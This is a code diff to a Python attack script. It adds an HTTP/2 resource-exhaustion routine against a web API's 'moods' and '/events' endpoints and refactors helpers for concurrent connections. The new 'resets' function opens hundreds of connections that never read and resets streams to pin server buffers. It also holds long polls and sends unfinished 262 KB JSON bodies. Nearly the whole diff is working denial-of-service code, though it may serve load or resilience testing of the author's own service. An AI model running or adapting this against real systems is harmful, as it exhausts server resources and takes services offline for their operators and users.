@@ -96,16 +96,23 @@ def multiplexed(attack):
         connection.h2.send_headers(stream, head, end_stream=content is None)
         unsent[connection, stream] = memoryview(content or b"")
 
+    def messages(attack):
+        held.Crowd(attack, 384, lambda number: unfinished_message(attack, number, MESSAGE), listens=False, called="sockets").run()
+
+    bodies = lambda attack: streams.crowd(attack, 608, begin, feeding(unsent), streams=4, window=0)
+    at_once(attack, [bodies, messages] + sign_ins(attack))
+
+
+def feeding(unsent):
+    """Sends what is left of the bodies of a connection, one body after the other."""
+
     def feed(connection, stream):
         # The JSON first: once the server stops reading, it does not arrive any more.
         left = [other for other in sorted(connection.open) if unsent[connection, other]]
         if left and left[0] == stream:
             unsent[connection, stream] = connection.send(stream, unsent[connection, stream])
 
-    def messages(attack):
-        held.Crowd(attack, 384, lambda number: unfinished_message(attack, number, MESSAGE), listens=False, called="sockets").run()
-
-    at_once(attack, [lambda attack: streams.crowd(attack, 608, begin, feed, streams=4, window=0), messages] + sign_ins(attack))
+    return feed
 
 
 def unfinished_message(attack, number, count):
@@ -126,7 +133,7 @@ def send(connection, content):
         pass
 
 
-def opened(attack, count, open_one):
+def opened(attack, count, open_one, at_a_time=16):
     """Opens connections at the same time. Returns those that opened."""
 
     def attempt(number):
@@ -135,7 +142,7 @@ def opened(attack, count, open_one):
         except OSError as error:
             attack.count(type(error).__name__)
 
-    with ThreadPoolExecutor(16) as pool:
+    with ThreadPoolExecutor(at_a_time) as pool:
         return [connection for connection in pool.map(attempt, range(count)) if connection]
 
 
@@ -252,3 +259,58 @@ def messages(attack):
         connection.send(frame_head(0x8A, 0))
 
     held.Crowd(attack, 336, open_one, pong, listens=False, called="sockets").run()
+
+
+def resets(attack):
+    """872 HTTP/2 connections that read nothing. Each requests four times six lists of 15 KB and then resets their streams: what the streams
+    have passed to the connection stays in its buffer. Then 760 of them begin a long poll. Beside them unfinished JSON and lists of 390 KB,
+    as many as the budgets take."""
+    unsent = {}
+    owner = lambda number: attack.accounts[number % len(attack.accounts)]
+
+    def request(connection, path, person):
+        stream = connection.h2.get_next_available_stream_id()
+        connection.h2.send_headers(stream, streams.head(attack, "GET", path, person["token"]), end_stream=True)
+        return stream
+
+    def unread(number):
+        person = owner(number)
+        connection = streams.Connection(attack, number, 0, window=1 << 24, receive_buffer=2_304)
+        connection.h2.increment_flow_control_window(1 << 24)
+        for turn in range(4):
+            asked = [request(connection, f"/api/users/user/{person['id']}/moods?limit=2", person) for _ in range(6)]
+            connection.flush()
+            attack.wait(0.4)
+            # The kernel took the first responses, so their streams have ended.
+            for stream in asked if turn > 0 else []:
+                connection.end(stream)
+        connection.flush()
+        return connection
+
+    def crowd(attack):
+        # A network may have 256 streams, of which the other connections have 68.
+        connections = opened(attack, 872, unread, at_a_time=120)
+        attack.note("connections", len(connections))
+        for connection in connections[:760]:
+            try:
+                request(connection, "/events?wait=25", owner(connection.number))
+                connection.flush()
+            except OSError as error:
+                attack.count(type(error).__name__)
+        attack.ready()
+        attack.over.wait()
+
+    def begin(connection, stream):
+        if stream == 1:
+            person, method, content = owner(connection.number), "PATCH", JSON
+            path = f"/api/users/user/{person['id']}/moods/{person['mood']}"
+            fields = {"content-type": "application/json", "content-length": "262000"}
+        else:
+            # Only the first four accounts have so many moods.
+            person, method, content, fields = attack.accounts[connection.number % 4], "GET", None, None
+            path = f"/api/users/user/{person['id']}/moods?limit=52"
+        connection.h2.send_headers(stream, streams.head(attack, method, path, person["token"], fields), end_stream=content is None)
+        unsent[connection, stream] = memoryview(content or b"")
+
+    budgets = lambda attack: streams.crowd(attack, 136, begin, feeding(unsent), streams=2, window=0)
+    at_once(attack, [crowd, budgets] + sign_ins(attack))
